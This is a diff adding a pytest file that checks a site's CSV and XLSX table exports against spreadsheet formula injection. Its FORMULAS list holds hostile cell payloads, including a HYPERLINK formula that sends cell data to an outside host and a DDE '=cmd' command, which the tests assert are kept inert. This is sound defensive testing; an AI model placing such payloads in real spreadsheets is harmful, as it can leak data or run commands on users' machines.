@@ -1,0 +1,52 @@
+"""Tables as files: every text comes back as it was, and none runs as a formula."""
+
+import csv
+import io
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from coalition_site.publish.formats.tables import csv_text, xlsx_bytes
+from coalition_site.render.tables import TextTable
+
+FORMULAS = (
+    '=HYPERLINK("http://e/?"&A1,"x")',
+    "=cmd|' /C calc'!A0",
+    "+1 (555) 555-0100",
+    "-1",
+    "@SUM(1)",
+    "\t=1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+)
+
+
+def _table(*cells: str) -> TextTable:
+    return TextTable("Invites", ("Name",), tuple((cell,) for cell in cells))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_never_begins_a_formula(formula: str) -> None:
+    rows = list(csv.reader(io.StringIO(csv_text(_table(formula)).removeprefix("\ufeff"))))
+    assert rows == [["Name"], [f"'{formula}"]]
+
+
+def test_csv_keeps_other_texts() -> None:
+    texts = ('O\'Malley, "Kit"', "Nguyễn Thị Hạnh", "02134", "two\nlines", "12 Elm Street")
+    rows = list(csv.reader(io.StringIO(csv_text(_table(*texts)).removeprefix("\ufeff"))))
+    assert [row[0] for row in rows[1:]] == list(texts)
+
+
+def test_xlsx_holds_texts_only(tmp_path: Path) -> None:
+    texts = (*FORMULAS, "02134", "https://x.example", "Nguyễn")
+    (tmp_path / "invites.xlsx").write_bytes(xlsx_bytes(_table(*texts), epoch=0))
+    sheet = openpyxl.load_workbook(tmp_path / "invites.xlsx")["Invites"]
+    assert [cell.value for cell in sheet["A"]] == ["Name", *texts]
+    assert {cell.data_type for cell in sheet["A"]} == {"s"}
+    assert all(cell.hyperlink is None for cell in sheet["A"])
+
+
+def test_xlsx_has_the_same_bytes_twice(tmp_path: Path) -> None:
+    for name in ("one.xlsx", "two.xlsx"):
+        (tmp_path / name).write_bytes(xlsx_bytes(_table("a", "b"), epoch=1_700_000_000))
+    assert (tmp_path / "one.xlsx").read_bytes() == (tmp_path / "two.xlsx").read_bytes()
